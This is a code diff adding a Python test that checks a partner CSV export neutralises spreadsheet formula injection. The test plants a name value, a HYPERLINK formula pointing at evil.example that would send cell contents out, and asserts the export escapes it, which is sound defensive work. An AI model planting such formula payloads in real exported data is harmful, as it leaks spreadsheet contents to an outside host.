@@ -72,3 +72,12 @@ def test_another_list_another_commitment_or_a_bent_file_is_refused(drawn, cast, 
     commitment, files, _ = theirs(drawn, cast, tmp_path / "b", spoil=lambda tasks: tasks["pool"].pop())
     with refused_with("partner_tasks"):
         partners.receive(drawn, "消防", commitment, *files, by=cast.clerk)
+
+
+def test_what_a_partner_opens_computes_nothing(drawn, cast):
+    subject = drawn.cases.first().subject
+    subject.name = '=HYPERLINK("http://evil.example/"&A1)'
+    subject.save()
+    table = partners.share(drawn, by=cast.clerk)["pool.csv"].decode("utf-8-sig")
+    assert "'=HYPERLINK" in table
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in csv.reader(io.StringIO(table)) for cell in row)
